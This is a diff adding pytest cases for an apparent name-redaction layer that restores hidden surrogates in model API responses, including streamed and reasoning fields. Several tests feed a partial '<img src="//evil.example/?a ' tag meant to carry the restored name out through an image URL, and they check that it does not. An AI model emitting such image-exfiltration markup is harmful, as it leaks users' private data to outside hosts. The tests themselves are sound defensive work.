@@ -653,11 +653,33 @@ def test_parts_that_leave_nothing_open_are_restored(conversation):
         assert sorted(_read(shown)) == sorted("".join(texts).replace(sent, "Okonkwo"))
 
 
-def test_thoughts_leave_nothing_open_in_what_is_said(conversation):
+@pytest.mark.parametrize("name", ["reasoning_content", "reasoning", "refusal"])
+def test_what_thoughts_leave_open_goes_on_in_what_is_said(name, conversation):
     c = conversation
-    message = {"reasoning_content": "a [b", "content": c.hide("Okonkwo")}
-    shown = _answer(c).whole({"choices": [{"message": message}]})
+    sent = c.hide("Okonkwo")
+    open_one, said = '<img src="//evil.example/?a ', f'{sent} b">'
+    message = {"content": said, name: open_one}
+    given = {"choices": [{"message": message}]}
+    assert _answer(c).whole(given) == given
+    deltas = [{name: open_one}, {"content": said}]
+    answer, shown = _answer(c), []
+    for delta in deltas:
+        shown += answer.event({"choices": [{"index": 0, "delta": delta}]})
+    assert "konkwo" not in str([*shown, *answer.end()])
+    closed = {"content": sent, name: f"So [x] it is {sent}"}
+    shown = _answer(c).whole({"choices": [{"message": closed}]})
     assert shown["choices"][0]["message"]["content"] == "Okonkwo"
+
+
+def test_choices_in_another_order_keep_their_surrogates(conversation):
+    c = conversation
+    given = {
+        "choices": [
+            {"index": 1, "message": {"content": f'{c.hide("Okonkwo")} b">'}},
+            {"index": 0, "message": {"content": '<img src="//evil.example/?a '}},
+        ]
+    }
+    assert _answer(c).whole(given) == given
 
 
 @pytest.mark.parametrize(
